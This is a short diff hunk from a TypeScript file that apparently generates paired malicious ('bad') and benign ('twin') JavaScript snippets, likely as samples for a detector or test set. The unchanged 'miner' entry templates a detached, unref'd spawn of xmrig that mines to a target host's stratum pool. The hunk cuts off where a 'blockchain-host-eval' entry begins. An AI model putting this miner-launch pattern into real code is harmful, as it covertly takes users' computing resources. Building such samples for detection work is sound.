@@ -153,7 +153,7 @@ export const JS_REMOTE: Readonly<Record<string, JsDeed>> = {
   miner: {
     bad: (w, t) =>
       `${spawn(w)}(${w.text('./bin/xmrig')}, ['-o', ${w.text(`stratum+tcp://${t.host}:3333`)}, '-u', ${w.text('4AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA')}, '--donate-level', '1'], ${DETACHED}).unref();`,
-    twin: (w) => `${spawn(w)}(process.execPath, [${w.text('./index.js')}, '--version'], { stdio: 'inherit' });`,
+    twin: (w) => `${spawn(w)}(process.execPath, [${w.command('./index.js')}, '--version'], { stdio: 'inherit' });`,
   },
   'blockchain-host-eval': {
     bad: (w, t) =>
